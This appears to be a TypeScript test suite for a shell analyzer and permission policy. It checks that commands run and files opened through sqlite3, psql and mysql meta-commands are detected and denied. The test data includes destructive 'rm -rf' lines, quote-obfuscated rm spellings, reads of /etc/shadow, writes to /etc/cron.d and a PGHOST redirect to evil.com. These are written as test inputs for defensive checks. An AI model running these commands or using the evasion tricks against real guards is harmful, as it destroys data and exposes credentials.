// Database clients (src/shell/sql-clients.ts): what their meta-commands run is a line, the files
// they name are parts, what cannot be read plainly is a problem. sqlite3 itself is the oracle for
// generated dot-command scripts: under strace, every file it reads or writes in a scratch
// directory, and every probe it runs, must be among what the analysis found.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { analyzeShell } from '../src/shell/analyze.js';
import type { DecisionKind } from '../src/policy/types.js';
import { expectDecision } from './helpers/policy.js';

const RUNS = Math.min(Number(process.env.FC_RUNS ?? 10_000), Number(process.env.SQLITE_RUNS ?? 150));
// (A database's journal and write-ahead log files beside it, `a.db-journal`, `-wal`, `-shm`, are left out here.)
const refs = (line: string) => analyzeShell(line).paths.filter((p) => !/-(?:journal|wal|shm)$/.test(p.path)).map((p) => `${p.op}:${p.path}`);
const commands = (line: string) => analyzeShell(line).commands.map((c) => c.words.join(' '));
const problems = (line: string) => analyzeShell(line).incomplete.map((i) => i.reason);

describe('what the clients run and open', () => {
  it.each([
    ["sqlite3 a.db '.shell rm -rf x'", ['rm -rf x']],
    ["sqlite3 a.db \".output '|sort -u'\" 'select 1'", ['sort -u']],
    ["sqlite3 -cmd '.system make' a.db", ['make']],
    ["psql -qc '\\! rm x'", ['rm x']],
    ["psql -c \"\\copy t from program 'gzip -dc t.gz'\"", ['gzip -dc t.gz']],
    ["psql -c '\\o |tee log'", ['tee log']],
    // (Found in review: psql runs an unquoted backtick command in any meta-command's argument.)
    ["psql -c '\\c db u `rm x`'", ['rm x']],
    ["psql -c '\\echo `rm y` hi'", ['rm y']],
    ["psql -c '\\set v `rm z`'", ['rm z']],
    ["mysql -Be 'system rm x'", ['rm x']],
    ["mysql --pager='less -S'", ['less -S']],
    // (Found in review: sqlite3 keeps the quotes of a token that does not start with one, and
    // resolves backslash escapes outside single quotes; /bin/sh then reads `r''m` as rm.)
    [`sqlite3 db ".shell r''m y"`, ['rm y']],
    [`sqlite3 db '.system r""m y'`, ['rm y']],
    [`sqlite3 db '.shell r\\155 y'`, ['rm y']],
    [`sqlite3 db '.shell "a b"c d'`, ['a b c d']],
    [`sqlite3 db '.shell echo x\\000y z'`, ['echo x z']],
  ])('%s runs %j', (line, expected) => {
    for (const c of expected) expect(commands(line)).toContain(c);
  });

  it.each([
    ["sqlite3 a.db '.output out.txt' 'select 1'", ['edit:a.db', 'edit:out.txt']],
    ["sqlite3 a.db \".once 'my file.csv'\"", ['edit:a.db', 'edit:my file.csv']],
    ["sqlite3 a.db '.read init.sql' '.import data.csv t' '.backup main b.db'", ['edit:a.db', 'read:init.sql', 'read:data.csv', 'edit:b.db']],
    ['sqlite3 -readonly a.db -init rc.sql', ['edit:a.db', 'read:rc.sql']],
    ["psql -f q.sql -o out.txt -L log.txt", ['read:q.sql', 'edit:out.txt', 'edit:log.txt']],
    ["psql -c \"\\copy t to 'dump.csv' csv\"", ['edit:dump.csv']],
    ["psql -c '\\i setup.sql'", ['read:setup.sql']],
    ["mysql -e 'source s.sql; tee t.log'", ['read:s.sql', 'edit:t.log']],
    ["mysql -e \"LOAD DATA LOCAL INFILE 'rows.csv' INTO TABLE t\"", ['read:rows.csv']],
    ['mysql --defaults-file=my.cnf -e "select 1"', ['read:my.cnf']],
  ])('%s opens %j', (line, expected) => {
    expect(refs(line)).toEqual(expected);
  });

  it('a database is written with its journal and write-ahead log beside it', () => {
    expect(analyzeShell("sqlite3 a.db '.backup b.db'").paths.map((p) => p.path)).toEqual(['a.db', 'a.db-journal', 'a.db-wal', 'a.db-shm', 'b.db', 'b.db-journal', 'b.db-wal', 'b.db-shm']);
  });

  it.each([
    "sqlite3 a.db \"select readfile('/etc/shadow')\"",
    "sqlite3 a.db \"select writefile('x', 'y')\"",
    "sqlite3 a.db \"ATTACH 'other.db' AS o\"",
    "sqlite3 a.db '.load ./ext'",
    "sqlite3 a.db '.excel'",
    'sqlite3 a.db "$Q"',
    "psql -c '\\e'",
    "psql -c '\\o :file'",
    "psql -c '\\setenv PGHOST evil.com' -c '\\c -reuse-previous=off db u'",
    "psql -c '\\setenv PAGER less'",
    'psql "$ARGS"',
    "mysql -e 'edit'",
    'mysql --plugin-dir=/tmp/p',
  ])('%s is a problem', (line) => {
    expect(problems(line).length).toBeGreaterThan(0);
  });

  it.each(["sqlite3 a.db '.tables' '.schema t' 'select * from t;'", "psql -d app -c 'select 1' -c '\\dt'", "mysql -uroot -psecret -e 'show tables'"])('%s: nothing more', (line) => {
    expect(problems(line)).toEqual([]);
    expect(commands(line)).toHaveLength(1);
  });
});

describe('decisions', () => {
  const rules = {
    deny: ['Shell(rm *)', 'Read(//etc/shadow)', 'Edit(//etc/**)'],
    allow: ['Shell(sqlite3 *)', 'Shell(psql *)', 'Shell(mysql *)', 'Shell(sort *)'],
  };
  // Each was allowed by the client's allow rule before the clients were read.
  it.each([
    ["sqlite3 app.db '.shell rm -rf /w/repo'", 'deny'],
    ["sqlite3 app.db \".once '|rm -rf x'\"", 'deny'],
    ["sqlite3 app.db '.read /etc/shadow'", 'deny'],
    ["sqlite3 app.db '.output /etc/cron.d/x' 'select 1'", 'deny'],
    ["sqlite3 app.db \"select writefile('/etc/cron.d/x', 'y')\"", 'ask'],
    ["psql -c '\\! rm -rf /w/repo'", 'deny'],
    ['psql -f /etc/shadow', 'deny'],
    ["mysql -e 'system rm -rf /w/repo'", 'deny'],
    ["mysql -e \"load data local infile '/etc/shadow' into table t\"", 'deny'],
    [`sqlite3 app.db ".shell r''m y"`, 'deny'],
    ["sqlite3 app.db <<'EOF'\n.shell r''m y\nEOF", 'deny'],
    [`sqlite3 app.db '.shell r""m y'`, 'deny'],
    [`sqlite3 app.db ".system r\\"\\"m y"`, 'deny'],
    ["sqlite3 app.db '.shell a\\377'", 'ask'],
    ["sqlite3 app.db '.output |sort' 'select 1'", 'allow'],
    [`sqlite3 app.db ".once '|sort -u'" 'select 1'`, 'allow'],
    ["sqlite3 app.db 'select count(*) from users'", 'allow'],
    ["psql -h db -U app -c 'select 1'", 'allow'],
  ] as [string, DecisionKind][])('%s: %s', (line, expected) => {
    expectDecision(rules, 'shell', line, expected);
  });
});

const has = (cmd: string) => spawnSync(cmd, ['-version'], { encoding: 'utf8' }).status === 0;
const strace = spawnSync('strace', ['-V'], { encoding: 'utf8' }).status === 0;

describe.skipIf(!has('sqlite3') || !strace)('sqlite3: the files it opens and the commands it runs are what the analysis finds', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sqlite-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const LOG = join(dir, 'probe.log');
  const PROBE = join(dir, 'probe');
  writeFileSync(PROBE, `#!/bin/sh\necho "$@" >> ${LOG}\ncat > /dev/null\n`);
  chmodSync(PROBE, 0o755);
  const seeded = ['probe', 'in.sql', 'data.csv'];
  const file = fc.constantFrom('out1', 'out2', "'o u t'", '"q.txt"');
  const dot = fc.oneof(
    fc.constantFrom('.tables', '.print hi', '.mode csv', '.headers on', 'select 1;', 'create table if not exists t(a);', '.schema', '.show'),
    file.map((f) => `.output ${f}`), file.map((f) => `.once ${f}`), file.map((f) => `.backup main ${f}`), file.map((f) => `.save ${f}`),
    file.map((f) => `.log ${f}`), file.map((f) => `.open ${f}`), file.map((f) => `.clone ${f}`), file.map((f) => `.save main ${f}`),
    fc.integer({ min: 1, max: 9 }).map((k) => `.shell ${PROBE} run${k}`), fc.integer({ min: 1, max: 9 }).map((k) => `.system ${PROBE} sys${k}`),
    fc.integer({ min: 1, max: 9 }).map((k) => `.once '|${PROBE} pipe${k}'`),
    fc.constantFrom('.read in.sql', '.import --csv data.csv t2', '.read "in.sql"'),
  );
  const args = fc.array(dot, { minLength: 1, maxLength: 4 });

  it(`for generated dot-commands (${RUNS} runs)`, () => {
    let compared = 0;
    fc.assert(fc.property(args, fc.boolean(), (cmds, oneArgument) => {
      for (const f of readdirSync(dir)) if (!seeded.includes(f)) rmSync(join(dir, f), { recursive: true, force: true });
      writeFileSync(join(dir, 'in.sql'), 'select 2;\n');
      writeFileSync(join(dir, 'data.csv'), 'a\n1\n');
      const words = ['sqlite3', 'db.sqlite', ...(oneArgument ? [cmds.join('\n')] : cmds)];
      const trace = join(dir, 'trace');
      spawnSync('strace', ['-f', '-qq', '-e', 'trace=openat,open,execve', '-o', trace, ...words], { cwd: dir, timeout: 10_000, input: '' });
      const reads = new Set<string>();
      const writes = new Set<string>();
      for (const line of readFileSync(trace, 'utf8').split('\n')) {
        const o = /open(?:at)?\((?:AT_FDCWD|\d+), "([^"]+)", ([A-Z_|]+)/.exec(line);
        if (!o || / = -1 /.test(line) || o[2]!.includes('O_DIRECTORY')) continue;
        const abs = resolve(dir, o[1]!);
        if (!abs.startsWith(`${dir}/`) || abs === trace || abs === LOG || abs === PROBE) continue;
        // (A database's journal beside it, `x-journal`, is written with it: checked as the database.)
        (/O_WRONLY|O_RDWR|O_CREAT/.test(o[2]!) ? writes : reads).add(abs.replace(/-(?:journal|wal|shm)$/, ''));
      }
      const ran = existsSync(LOG) ? readFileSync(LOG, 'utf8').split('\n').filter(Boolean) : [];
      const quoted = words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(' ');
      const a = analyzeShell(quoted);
      if (a.incomplete.length > 0) return;
      compared++;
      const parts = a.paths.map((p) => `${p.op}:${resolve(dir, p.path)}`);
      for (const f of writes) expect({ quoted, f, found: parts.includes(`edit:${f}`) }).toEqual({ quoted, f, found: true });
      for (const f of reads) expect({ quoted, f, found: parts.includes(`read:${f}`) || parts.includes(`edit:${f}`) }).toEqual({ quoted, f, found: true });
      const lines = a.commands.map((c) => c.words.join(' '));
      for (const r of ran) expect({ quoted, r, found: lines.some((l) => l === `${PROBE} ${r}`) }).toEqual({ quoted, r, found: true });
    }), { numRuns: RUNS });
    console.log(`sqlite3 program test: ${compared} of ${RUNS} lines compared`);
    expect(compared).toBeGreaterThan(RUNS / 2);
  });
});
